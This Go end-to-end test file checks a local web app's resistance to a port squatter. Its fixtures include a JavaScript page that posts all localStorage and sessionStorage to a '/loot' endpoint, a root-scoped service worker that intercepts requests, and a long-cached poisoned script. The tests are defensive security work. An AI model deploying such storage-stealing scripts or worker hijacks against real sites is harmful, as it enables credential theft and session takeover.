package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/page"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// robber has a dead instance's port and answers its browser with pages.
type robber struct {
	t      *testing.T
	server *http.Server
	ended  sync.WaitGroup

	mu   sync.Mutex
	loot []string // what its scripts sent home
	hits map[string]int
}

// rob takes the port of a dead instance. pages are what is at which path; the
// last resort is "".
func rob(t *testing.T, w *world, in *instance, header map[string]string, pages map[string]string) *robber {
	t.Helper()
	r := &robber{t: t, hits: map[string]int{}}
	l := w.occupy(in.Port)
	r.server = &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, q *http.Request) { r.answer(rw, q, header, pages) })}
	r.ended.Go(func() { _ = r.server.Serve(l) })
	t.Cleanup(r.leave)
	return r
}

func (r *robber) answer(rw http.ResponseWriter, q *http.Request, header map[string]string, pages map[string]string) {
	body, _ := io.ReadAll(q.Body)
	r.mu.Lock()
	r.hits[q.URL.Path]++
	if q.URL.Path == "/loot" {
		r.loot = append(r.loot, string(body))
	}
	r.mu.Unlock()
	page, ok := pages[q.URL.Path]
	if !ok {
		page, ok = pages[""]
	}
	if !ok || q.URL.Path == "/health" {
		rw.WriteHeader(http.StatusNotFound)
		return
	}
	for k, v := range header {
		rw.Header().Set(k, v)
	}
	rw.Header().Set("Content-Type", "text/html")
	if strings.HasSuffix(q.URL.Path, ".js") {
		rw.Header().Set("Content-Type", "text/javascript")
	}
	_, _ = io.WriteString(rw, page)
}

// leave gives the port back.
func (r *robber) leave() {
	_ = r.server.Close()
	r.ended.Wait()
}

func (r *robber) all() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return strings.Join(r.loot, "\n")
}

// readsStorage is a page that sends home all that lasts in its origin.
const readsStorage = `<!doctype html><title>robbed</title><body>robbed<script>
const send = () => fetch("/loot", {method: "POST", body: JSON.stringify({...localStorage, ...sessionStorage})}).catch(() => undefined);
send();
</script>`

// TestWhatASquatterReadsOpensNothing: a tab is loaded again while another
// program has the port; another tab of the browser stays open.
func TestWhatASquatterReadsOpensNothing(t *testing.T) {
	s := newStudio(t, twoTables)
	s.shows("customer(id name)", "purchase(id customer_id)")
	open := s.another()
	open.goTo(s.in.URL)
	open.shows("customer(id name)", "purchase(id customer_id)")
	signedIn := s.another()
	signedIn.goTo(s.address(s.in))
	signedIn.shows("customer(id name)", "purchase(id customer_id)")
	tabs := []*tab{s.tab, open, signedIn}
	for _, b := range tabs {
		// A script that a tab asks for just then is the page that the squatter sends
		// for every path.
		b.expect("net::ERR_", "404 (Not Found)", "503 (Service Unavailable)", "401 (Unauthorized)", "Unexpected token '<'")
	}
	s.in.kill()
	r := rob(t, s.world, s.in, nil, map[string]string{"": readsStorage})
	s.goTo(s.in.URL) // a bookmark, or F5
	s.sees("robbed")
	require.Eventually(t, func() bool { return strings.Contains(r.all(), "berth.credential") }, patience, tick)
	stolen := r.all()
	r.leave()
	port := s.in.Port
	s.in = s.serve(s.root)
	require.Equal(t, port, s.in.Port)

	// The page that the squatter left reads along while open tabs come back.
	open.lacks(button("offline"))
	signedIn.lacks(button("offline"))
	open.rename(tableTitle("customer"), "client")
	signedIn.shows("client(id name)", "purchase(id customer_id)")
	signedIn.rename(tableTitle("purchase"), "sale")
	open.shows("client(id name)", "sale(id customer_id)")
	later := eval[string](s.tab, `JSON.stringify({...localStorage, ...sessionStorage})`)
	tried, opened := 0, 0
	for _, text := range strings.Split(stolen+"\n"+later, "\n") {
		var storage map[string]string
		require.NoError(t, json.Unmarshal([]byte(text), &storage), text)
		var key struct{ KeyID, Key, Resume string }
		if storage["berth.credential"] == "" {
			continue
		}
		require.NoError(t, json.Unmarshal([]byte(storage["berth.credential"]), &key))
		assert.Empty(t, key.Resume, "what follows a restart is in no storage")
		header := map[string]string{"Authorization": "Bearer " + key.KeyID + "." + key.Key}
		for _, what := range []struct{ method, path, body string }{
			{"GET", "/tables", ""}, {"GET", "/designs", ""}, {"GET", "/projects", ""}, {"POST", "/signin/resume", ""},
			{"POST", "/query", `{"query":"SELECT 1"}`}, {"POST", "/projects/open", fmt.Sprintf(`{"projectRoot":%q}`, s.root)},
		} {
			status, body := request(t, s.in, what.method, what.path, what.body, header)
			tried++
			if status != 401 {
				opened++
				t.Errorf("a stolen key still opens %s %s: %d %.200s", what.method, what.path, status, body)
			}
		}
	}
	t.Logf("%d requests with what the squatter read: %d were answered", tried, opened)
	assert.Positive(t, tried)

	s.goTo(s.in.URL)
	s.has(button("gate-signed-out"))
	s.sees("started again")
	s.goTo(s.address(s.in))
	s.shows("client(id name)", "sale(id customer_id)")
}

// workerOf is a page that registers a service worker and says when it serves.
const workerOf = `<!doctype html><title>robbed</title><body><script>
(async () => {
	await navigator.serviceWorker.register("/deep/worker.js", {scope: "/", updateViaCache: "all"});
	await navigator.serviceWorker.ready;
	navigator.serviceWorker.addEventListener("controllerchange", () => document.body.append("controlled"));
	if (navigator.serviceWorker.controller) document.body.append("controlled");
})();
</script>`

// passes on what the instance says, and keeps what it can for itself.
const worker = `self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", e => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", e => e.respondWith(fetch(e.request)));`

func TestAPageDoesNotSignInThroughTheWorkerOfASquatter(t *testing.T) {
	needsBrowser(t)
	w := newWorld(t)
	in := w.serve(w.project("app", twoTables))
	in.kill()
	r := rob(t, w, in, map[string]string{"Service-Worker-Allowed": "/"}, map[string]string{"/": workerOf, "/deep/worker.js": worker})
	b := newTab(t)
	b.expect("404 (Not Found)", "net::ERR_", "503")
	b.goTo(in.URL)
	b.sees("controlled")
	r.leave()
	in = w.serve(in.ProjectRoot)

	other := b.another()
	other.expect("404 (Not Found)", "net::ERR_")
	tell(other, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: `addEventListener("DOMContentLoaded", () => {
		const seen = JSON.parse(sessionStorage.seen ?? "[]");
		seen.push(navigator.serviceWorker.controller !== null);
		sessionStorage.seen = JSON.stringify(seen);
	})`})
	other.goTo(w.address(in))
	other.eventually(`localStorage.getItem("berth.credential") !== null`)
	assert.Equal(t, "[true,false]", eval[string](other, `sessionStorage.seen`), "loaded through the worker, then without it")
	other.eventually(`async () => (await navigator.serviceWorker.getRegistrations()).length === 0`)
	other.lacks(button("gate-controlled"))
}

func TestTheWorkerOfASquatterEndsWhereNoPageOfOursIs(t *testing.T) {
	needsBrowser(t)
	w := newWorld(t)
	in := w.serve(w.project("app", twoTables))
	in.kill()
	r := rob(t, w, in, map[string]string{"Service-Worker-Allowed": "/"}, map[string]string{"/": workerOf, "/deep/worker.js": worker})
	b := newTab(t)
	b.expect("404 (Not Found)", "net::ERR_", "503", "401")
	b.goTo(in.URL)
	b.sees("controlled")
	r.leave()
	in = w.serve(in.ProjectRoot)
	b.goTo(in.URL + "/tables") // text, no script of ours
	b.eventually(`async () => {
		const left = await navigator.serviceWorker.getRegistrations();
		for (const one of left) await one.update().catch(() => undefined);
		return left.length === 0;
	}`)
}

func TestWhatASquatterLeftInTheCacheIsNotUsedToSignIn(t *testing.T) {
	needsBrowser(t)
	w := newWorld(t)
	in := w.serve(w.project("app", twoTables))
	status, index := request(t, in, "GET", "/", "", nil)
	require.Equal(t, 200, status)
	script := assetOf(t, index)
	in.kill()
	poison := `document.title = "robbed"; window.robbed = location.href;`
	r := rob(t, w, in, map[string]string{"Cache-Control": "public, max-age=31536000, immutable"},
		map[string]string{"/": `<!doctype html><title>robbed</title><body>robbed<script src="` + script + `"></script>`, script: poison})
	b := newTab(t)
	b.expect("404 (Not Found)", "net::ERR_", "503")
	b.goTo(in.URL)
	b.sees("robbed")
	b.eventually(`window.robbed !== undefined`)
	r.leave()
	in = w.serve(in.ProjectRoot)
	other := b.another()
	other.goTo(w.address(in))
	other.eventually(`localStorage.getItem("berth.credential") !== null`)
	other.eventually(`document.title.includes("app")`) // what the instance's own page says once it has loaded
	assert.True(t, eval[bool](other, `window.robbed === undefined`), "neither page nor script come from the cache")
}

// assetOf is the address of the page's script.
func assetOf(t *testing.T, index string) string {
	t.Helper()
	_, rest, found := strings.Cut(index, `src="./assets/`)
	require.True(t, found, index)
	name, _, _ := strings.Cut(rest, `"`)
	return "/assets/" + name
}
